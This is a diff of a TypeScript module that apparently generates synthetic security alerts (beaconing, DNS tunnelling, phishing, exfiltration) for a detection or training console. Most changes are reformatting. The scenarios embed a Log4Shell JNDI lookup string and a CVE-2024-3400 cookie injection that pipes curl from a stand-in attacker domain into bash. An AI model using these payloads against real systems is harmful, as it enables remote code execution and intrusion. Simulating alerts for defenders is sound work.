@@ -17,7 +17,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
       const times = random.integer(140, 900);
       return {
         message: `${workstation.name} calls ${to.domain} every ${every} seconds, ${times} times so far`,
-        outline: { threat: to.domain, target: workstation.name, indicators: [to.domain, to.ip], summary: `Regular callouts, ${every} s apart with little jitter` },
+        outline: {
+          threat: to.domain,
+          target: workstation.name,
+          indicators: [to.domain, to.ip],
+          summary: `Regular callouts, ${every} s apart with little jitter`,
+        },
         score: random.decimal(50, 82),
         severity: 6,
         action: 'connection',
@@ -29,9 +34,19 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
           url: { full: `https://${to.domain}/api/v2/poll`, domain: to.domain, path: '/api/v2/poll', scheme: 'https' },
           network: { direction: 'outbound', protocol: 'http', transport: 'tcp' },
           tls: { client: { server_name: to.domain, ja3: random.hex(32) }, version: '1.2', version_protocol: 'tls' },
-          related: { hosts: [workstation.name, to.domain], ip: [workstation.ip, to.ip], user: [workstation.owner.username] },
+          related: {
+            hosts: [workstation.name, to.domain],
+            ip: [workstation.ip, to.ip],
+            user: [workstation.owner.username],
+          },
         },
-        raw: { user: mailAddress(workstation.owner), url: `${to.domain}/api/v2/poll`, action: 'Allowed', interval: every, requests: times },
+        raw: {
+          user: mailAddress(workstation.owner),
+          url: `${to.domain}/api/v2/poll`,
+          action: 'Allowed',
+          interval: every,
+          requests: times,
+        },
       };
     },
   },
@@ -49,7 +64,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
       const name = `${random.hex(48)}.t.dnsrelay-node.example`;
       return {
         message: `${queries} TXT queries below dnsrelay-node.example from ${workstation.name} within an hour`,
-        outline: { threat: 'dnsrelay-node.example', target: workstation.name, indicators: ['dnsrelay-node.example', to.ip], summary: 'Data carried in names of DNS queries' },
+        outline: {
+          threat: 'dnsrelay-node.example',
+          target: workstation.name,
+          indicators: ['dnsrelay-node.example', to.ip],
+          summary: 'Data carried in names of DNS queries',
+        },
         score: random.decimal(68, 91),
         severity: 7,
         action: 'dns-query',
@@ -58,7 +78,11 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
           ...onWorkstation(workstation),
           source: { ip: workstation.ip, port: random.integer(49_200, 65_000) },
           destination: externalFields(to, 53),
-          dns: { question: { name, type: 'TXT', registered_domain: 'dnsrelay-node.example' }, type: 'query', response_code: 'NOERROR' },
+          dns: {
+            question: { name, type: 'TXT', registered_domain: 'dnsrelay-node.example' },
+            type: 'query',
+            response_code: 'NOERROR',
+          },
           network: { direction: 'outbound', protocol: 'dns', transport: 'udp' },
           related: { hosts: [workstation.name], ip: [workstation.ip, to.ip], user: [workstation.owner.username] },
         },
@@ -76,7 +100,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
     sensor: SENSORS.firewall,
     build: ({ random, workstation, attacker: to }) => ({
       message: `${workstation.name} tried to reach ${to.ip} (${to.domain}), which is on the list of control servers`,
-      outline: { threat: to.ip, target: workstation.name, indicators: [to.ip, to.domain], summary: 'Connection to a listed address, blocked' },
+      outline: {
+        threat: to.ip,
+        target: workstation.name,
+        indicators: [to.ip, to.domain],
+        summary: 'Connection to a listed address, blocked',
+      },
       score: random.decimal(44, 79),
       severity: 6,
       action: 'deny',
@@ -90,9 +119,21 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
           feed: { name: 'Sector sharing group' },
           indicator: { ip: to.ip, type: 'ipv4-addr', provider: 'Sector sharing group', confidence: 'High' },
         },
-        related: { hosts: [workstation.name, to.domain], ip: [workstation.ip, to.ip], user: [workstation.owner.username] },
+        related: {
+          hosts: [workstation.name, to.domain],
+          ip: [workstation.ip, to.ip],
+          user: [workstation.owner.username],
+        },
       },
-      raw: { type: 'THREAT', subtype: 'spyware', action: 'drop', src: workstation.ip, dst: to.ip, rule: 'outbound-default', srcuser: workstation.owner.username },
+      raw: {
+        type: 'THREAT',
+        subtype: 'spyware',
+        action: 'drop',
+        src: workstation.ip,
+        dst: to.ip,
+        rule: 'outbound-default',
+        srcuser: workstation.owner.username,
+      },
     }),
   },
   {
@@ -104,11 +145,18 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
     type: ['access'],
     sensor: SENSORS.proxy,
     build: ({ random, workstation }) => {
-      const to = attacker(random.pick(['m365-verify-login.example', 'invoice-portal-pay.example', 'maplecrest-benefits.example']));
+      const to = attacker(
+        random.pick(['m365-verify-login.example', 'invoice-portal-pay.example', 'maplecrest-benefits.example']),
+      );
       const posted = random.chance(0.35);
       return {
         message: `${workstation.owner.name} opened the phishing page ${to.domain}${posted ? ' and sent a form' : ''}`,
-        outline: { threat: to.domain, target: mailAddress(workstation.owner), indicators: [to.domain, to.ip], summary: posted ? 'Credentials probably entered' : 'Page opened, nothing sent' },
+        outline: {
+          threat: to.domain,
+          target: mailAddress(workstation.owner),
+          indicators: [to.domain, to.ip],
+          summary: posted ? 'Credentials probably entered' : 'Page opened, nothing sent',
+        },
         score: posted ? random.decimal(70, 88) : random.decimal(30, 52),
         severity: posted ? 7 : 4,
         action: posted ? 'POST' : 'GET',
@@ -117,11 +165,28 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
           ...onWorkstation(workstation),
           source: { ip: workstation.ip },
           destination: externalFields(to, 443),
-          url: { full: `https://${to.domain}/signin?id=${random.hex(8)}`, domain: to.domain, path: '/signin', scheme: 'https' },
-          http: { request: { method: posted ? 'POST' : 'GET', bytes: posted ? random.integer(380, 900) : 0 }, response: { status_code: posted ? 302 : 200 } },
-          related: { hosts: [to.domain, workstation.name], ip: [to.ip, workstation.ip], user: [workstation.owner.username] },
+          url: {
+            full: `https://${to.domain}/signin?id=${random.hex(8)}`,
+            domain: to.domain,
+            path: '/signin',
+            scheme: 'https',
+          },
+          http: {
+            request: { method: posted ? 'POST' : 'GET', bytes: posted ? random.integer(380, 900) : 0 },
+            response: { status_code: posted ? 302 : 200 },
+          },
+          related: {
+            hosts: [to.domain, workstation.name],
+            ip: [to.ip, workstation.ip],
+            user: [workstation.owner.username],
+          },
         },
-        raw: { user: mailAddress(workstation.owner), url: `${to.domain}/signin`, method: posted ? 'POST' : 'GET', category: 'Phishing' },
+        raw: {
+          user: mailAddress(workstation.owner),
+          url: `${to.domain}/signin`,
+          method: posted ? 'POST' : 'GET',
+          category: 'Phishing',
+        },
       };
     },
   },
@@ -138,7 +203,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
       const payload = `\${jndi:ldap://${from.ip}:1389/${random.hex(6)}}`;
       return {
         message: `Lookup string for CVE-2021-44228 from ${from.ip} in a request to the customer portal`,
-        outline: { threat: from.ip, target: host.name, indicators: [from.ip, 'CVE-2021-44228'], summary: 'Scan for an old hole; the portal is patched' },
+        outline: {
+          threat: from.ip,
+          target: host.name,
+          indicators: [from.ip, 'CVE-2021-44228'],
+          summary: 'Scan for an old hole; the portal is patched',
+        },
         score: random.decimal(18, 40),
         severity: 4,
         action: 'alert',
@@ -150,10 +220,19 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
           http: { request: { method: 'GET', referrer: payload }, response: { status_code: 403 } },
           user_agent: { original: payload },
           network: { direction: 'inbound', protocol: 'http', transport: 'tcp' },
-          vulnerability: { id: 'CVE-2021-44228', description: 'Apache Log4j2 JNDI features do not protect against attacker controlled endpoints' },
+          vulnerability: {
+            id: 'CVE-2021-44228',
+            description: 'Apache Log4j2 JNDI features do not protect against attacker controlled endpoints',
+          },
           related: { hosts: [host.name], ip: [from.ip, host.ip] },
         },
-        raw: { event_type: 'alert', src_ip: from.ip, dest_ip: host.ip, alert: { signature_id: 2034647, signature: 'Apache log4j RCE Attempt', severity: 1 }, http: { http_user_agent: payload } },
+        raw: {
+          event_type: 'alert',
+          src_ip: from.ip,
+          dest_ip: host.ip,
+          alert: { signature_id: 2034647, signature: 'Apache log4j RCE Attempt', severity: 1 },
+          http: { http_user_agent: payload },
+        },
       };
     },
   },
@@ -170,7 +249,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
       const cookie = `SESSID=/../../../opt/panlogs/tmp/device_telemetry/hour/a\`curl\${IFS}${from.domain}|bash\``;
       return {
         message: `Attempt at CVE-2024-3400 from ${from.ip} against the VPN gateway`,
-        outline: { threat: from.ip, target: host.name, indicators: [from.ip, from.domain, 'CVE-2024-3400'], summary: 'Command injection by session cookie' },
+        outline: {
+          threat: from.ip,
+          target: host.name,
+          indicators: [from.ip, from.domain, 'CVE-2024-3400'],
+          summary: 'Command injection by session cookie',
+        },
         score: random.decimal(62, 86),
         severity: 8,
         action: 'reset-both',
@@ -181,10 +265,21 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
           destination: { ip: host.ip, port: 443 },
           network: { direction: 'inbound', protocol: 'tls', transport: 'tcp' },
           http: { request: { method: 'POST', body: { content: cookie } } },
-          vulnerability: { id: 'CVE-2024-3400', description: 'Arbitrary file creation leads to OS command injection in GlobalProtect' },
+          vulnerability: {
+            id: 'CVE-2024-3400',
+            description: 'Arbitrary file creation leads to OS command injection in GlobalProtect',
+          },
           related: { hosts: [host.name, from.domain], ip: [from.ip, host.ip] },
         },
-        raw: { type: 'THREAT', subtype: 'vulnerability', threatid: 95187, src: from.ip, dst: host.ip, action: 'reset-both', cookie },
+        raw: {
+          type: 'THREAT',
+          subtype: 'vulnerability',
+          threatid: 95187,
+          src: from.ip,
+          dst: host.ip,
+          action: 'reset-both',
+          cookie,
+        },
       };
     },
   },
@@ -198,10 +293,20 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
     sensor: SENSORS.mail,
     build: ({ random, workstation: { owner } }) => {
       const from = attacker('maplecrest-benefits.example');
-      const subject = random.pick(['Action required: benefits enrolment closes today', 'Your payroll details could not be verified', 'Updated hybrid work policy, please sign', 'Voicemail from +1 514 555 0142']);
+      const subject = random.pick([
+        'Action required: benefits enrolment closes today',
+        'Your payroll details could not be verified',
+        'Updated hybrid work policy, please sign',
+        'Voicemail from +1 514 555 0142',
+      ]);
       return {
         message: `Mail "${subject}" to ${owner.name} from a domain that looks like ours`,
-        outline: { threat: from.domain, target: mailAddress(owner), indicators: [from.domain, from.ip, subject], summary: `${from.domain} imitates ${COMPANY.domain}` },
+        outline: {
+          threat: from.domain,
+          target: mailAddress(owner),
+          indicators: [from.domain, from.ip, subject],
+          summary: `${from.domain} imitates ${COMPANY.domain}`,
+        },
         score: random.decimal(34, 62),
         severity: 5,
         action: 'delivered',
@@ -219,7 +324,14 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
           url: { full: `https://${from.domain}/enrol`, domain: from.domain, path: '/enrol', scheme: 'https' },
           related: { user: [owner.username], ip: [from.ip], hosts: [from.domain] },
         },
-        raw: { Operation: 'TIMailData', Recipients: [mailAddress(owner)], P1Sender: `hr@${from.domain}`, Subject: subject, SenderIp: from.ip, DeliveryAction: 'Delivered' },
+        raw: {
+          Operation: 'TIMailData',
+          Recipients: [mailAddress(owner)],
+          P1Sender: `hr@${from.domain}`,
+          Subject: subject,
+          SenderIp: from.ip,
+          DeliveryAction: 'Delivered',
+        },
       };
     },
   },
@@ -237,7 +349,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
       const subject = name.replace(/[._]/g, ' ').replace(/ s?html?$/, '');
       return {
         message: `Attachment ${name} to ${owner.name} builds a ZIP archive in the browser`,
-        outline: { threat: name, target: mailAddress(owner), indicators: [name, from.domain], summary: 'HTML attachment assembles an archive by script' },
+        outline: {
+          threat: name,
+          target: mailAddress(owner),
+          indicators: [name, from.domain],
+          summary: 'HTML attachment assembles an archive by script',
+        },
         score: random.decimal(57, 80),
         severity: 6,
         action: 'quarantined',
@@ -251,11 +368,18 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
             from: { address: `billing@${from.domain}` },
             to: { address: mailAddress(owner) },
             direction: 'inbound',
-            attachments: [{ file: { name, extension: 'html', mime_type: 'text/html', size: file.size } }],
+            attachments: [{ file: { name, extension: file.extension, mime_type: 'text/html', size: file.size } }],
           },
           related: { user: [owner.username], ip: [from.ip], hosts: [from.domain] },
         },
-        raw: { Operation: 'TIMailData', Recipients: [mailAddress(owner)], P1Sender: `billing@${from.domain}`, Subject: subject, AttachmentData: [{ FileName: name, FileType: 'html' }], DeliveryAction: 'Blocked' },
+        raw: {
+          Operation: 'TIMailData',
+          Recipients: [mailAddress(owner)],
+          P1Sender: `billing@${from.domain}`,
+          Subject: subject,
+          AttachmentData: [{ FileName: name, FileType: file.extension }],
+          DeliveryAction: 'Blocked',
+        },
       };
     },
   },
@@ -272,7 +396,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
       const bytes = random.integer(1_200, 48_000) * 1_000_000;
       return {
         message: `${workstation.owner.name} uploaded ${(bytes / 1e9).toFixed(1)} GB to ${to.domain}`,
-        outline: { threat: to.domain, target: workstation.name, indicators: [to.domain, to.ip, workstation.owner.username], summary: `${(bytes / 1e9).toFixed(1)} GB to a file sharing site that we do not use` },
+        outline: {
+          threat: to.domain,
+          target: workstation.name,
+          indicators: [to.domain, to.ip, workstation.owner.username],
+          summary: `${(bytes / 1e9).toFixed(1)} GB to a file sharing site that we do not use`,
+        },
         score: random.decimal(40, 77),
         severity: 6,
         action: 'upload',
@@ -284,9 +413,19 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
           url: { full: `https://${to.domain}/u/${random.hex(10)}`, domain: to.domain, scheme: 'https' },
           http: { request: { method: 'PUT' } },
           network: { direction: 'outbound', protocol: 'http', transport: 'tcp' },
-          related: { hosts: [workstation.name, to.domain], ip: [workstation.ip, to.ip], user: [workstation.owner.username] },
+          related: {
+            hosts: [workstation.name, to.domain],
+            ip: [workstation.ip, to.ip],
+            user: [workstation.owner.username],
+          },
         },
-        raw: { user: mailAddress(workstation.owner), url: to.domain, requestsize: bytes, action: 'Allowed', urlcategory: 'File Share' },
+        raw: {
+          user: mailAddress(workstation.owner),
+          url: to.domain,
+          requestsize: bytes,
+          action: 'Allowed',
+          urlcategory: 'File Share',
+        },
       };
     },
   },
@@ -304,7 +443,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
       const commandLine = `7z.exe a -p${random.hex(10)} -mhe ${path} \\\\MCM-FS02\\${share}`;
       return {
         message: `Encrypted archive of \\\\MCM-FS02\\${share} made on ${workstation.name}`,
-        outline: { threat: workstation.owner.username, target: `\\\\MCM-FS02\\${share}`, indicators: [path, '7z.exe'], summary: 'Share packed with a password' },
+        outline: {
+          threat: workstation.owner.username,
+          target: `\\\\MCM-FS02\\${share}`,
+          indicators: [path, '7z.exe'],
+          summary: 'Share packed with a password',
+        },
         score: random.decimal(54, 81),
         severity: 7,
         action: 'file-created',
@@ -312,7 +456,12 @@ export const NETWORK_SCENARIOS: readonly Detection[] = [
         fields: {
           ...onWorkstation(workstation),
           file: fileFields(path, random.integer(80, 3_900) * 1_000_000),
-          process: { name: '7z.exe', executable: 'C:\\Program Files\\7-Zip\\7z.exe', command_line: commandLine, pid: random.integer(3000, 19000) },
+          process: {
+            name: '7z.exe',
+            executable: 'C:\\Program Files\\7-Zip\\7z.exe',
+            command_line: commandLine,
+            pid: random.integer(3000, 19000),
+          },
           related: { hosts: [workstation.name, 'MCM-FS02'], user: [workstation.owner.username] },
         },
         raw: { EventID: 11, Image: 'C:\\Program Files\\7-Zip\\7z.exe', TargetFilename: path, CommandLine: commandLine },
